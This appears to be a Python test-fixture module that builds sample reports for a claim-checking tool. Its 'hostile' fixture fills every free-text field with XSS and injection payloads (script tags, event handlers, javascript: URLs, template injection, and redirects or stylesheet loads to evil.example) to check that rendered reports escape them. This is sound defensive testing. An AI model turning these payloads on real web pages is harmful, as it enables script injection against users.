"""Nothing goes in; the reports that are opened in a browser come out."""

from __future__ import annotations

from enum import Enum
from itertools import cycle
from pathlib import Path
from tempfile import TemporaryDirectory
from typing import TYPE_CHECKING, Any

from report import builders as b

from claimcheck import pipeline, sample
from claimcheck.model import Report
from claimcheck.settings import Settings

if TYPE_CHECKING:
    from collections.abc import Iterator

_ARTICLE = Path(__file__).parents[3] / "data" / "article.txt"
HACKS = (
    "<script>window.hacked=1</script>",
    "<img src=x onerror=window.hacked=1>",
    "</style></script></template></title><svg onload=window.hacked=1>",
    '"\' onmouseover=\'window.hacked=1\' onfocus="window.hacked=1" autofocus tabindex="1',
    "javascript:window.hacked=1",
    "data:text/html,<script>window.hacked=1</script>",
    "<!-- --!> <script>window.hacked=1</script>",
    "]]><script>window.hacked=1</script>",
    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
    "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
    "<a href='javascript:window.hacked=1'>press</a><form action=//evil.example><button>go</button></form>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example/y.css'</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'><base href=//evil.example>",
    "${window.hacked=1} {{constructor.constructor('window.hacked=1')()}}",
    "\u202e desrever \u2066 \u200b hidden \ufeff \u2028 \u2029",
)
_BOUND = {"text", "exact", "rule", "fingerprint", "style", "key"}  # other parts of the report refer to them


def demo() -> Report:
    with sample.serve() as folder:
        settings = Settings(references=folder / "references.yaml", allow_private=True, store=None)
        return _named(pipeline.run([folder / "article.txt"], settings))


def article() -> Report:
    return _named(pipeline.run([_ARTICLE], Settings(offline=True, store=None)))


def empty() -> Report:
    return b.report(b.dossier(b.evidence(b.manuscript("Nothing is quoted here."))))


def hostile() -> Report:
    """Return a report in which every free text is a payload, and every payload is quoted and in a source."""
    with TemporaryDirectory() as name:
        folder = Path(name)
        quoted = [f"“the {n}th mill burned down {hack} in one night”" for n, hack in enumerate(HACKS)]
        said = "\n\n".join(f"Ada Marsh wrote {words}.[{n}]" for n, words in enumerate(quoted, 1))
        notes = "\n".join(
            f"{n}. Ada Marsh, “{hack}”, Papers {hack}, 1950." for n, hack in enumerate(HACKS, 1)
        )
        (folder / "article.txt").write_text(f"{said}\n\nNotes\n\n{notes}\n", encoding="utf-8", newline="")
        source = "\n\n".join(words.replace("one night", "two nights") for words in quoted)
        (folder / "source.txt").write_text(source, encoding="utf-8", newline="")
        ids = ", ".join(str(n) for n in range(1, len(HACKS)))
        (folder / "references.yaml").write_text(
            f"references:\n- id: mill\n  title: Mill\n  notes: [{ids}]\n  source: source.txt\n",
            encoding="utf-8",
        )
        settings = Settings(references=folder / "references.yaml", store=None)
        found = pipeline.run([folder / "article.txt"], settings)
    return Report.model_validate(_hacked(found.model_dump(), cycle(HACKS)))


def _hacked(value: Any, hacks: Iterator[str], name: str = "") -> Any:  # noqa: ANN401 - whatever a noun holds
    """Put a payload into every free text of a noun that was dumped."""
    match value:
        case dict():
            return {key: _hacked(part, hacks, key) for key, part in value.items()}
        case list() | tuple():
            return tuple(_hacked(part, hacks, name) for part in value)
        case str() if isinstance(value, Enum) or name in _BOUND or name.endswith("id"):
            return value
        case str() | None if name in {"url", "final_url", "address", "origin"}:
            return "javascript:window.hacked=1"
        case str():
            return f"{value} {next(hacks)}"
    return value


def _named(report: Report, name: str = "article.txt") -> Report:
    """Leave the folder of this run out of the report."""
    dossiers = []
    for dossier in report.dossiers:
        manuscript = dossier.evidence.manuscript.model_copy(update={"path": name})
        evidence = dossier.evidence.model_copy(update={"manuscript": manuscript})
        dossiers.append(dossier.model_copy(update={"evidence": evidence}))
    return report.model_copy(update={"dossiers": tuple(dossiers)})
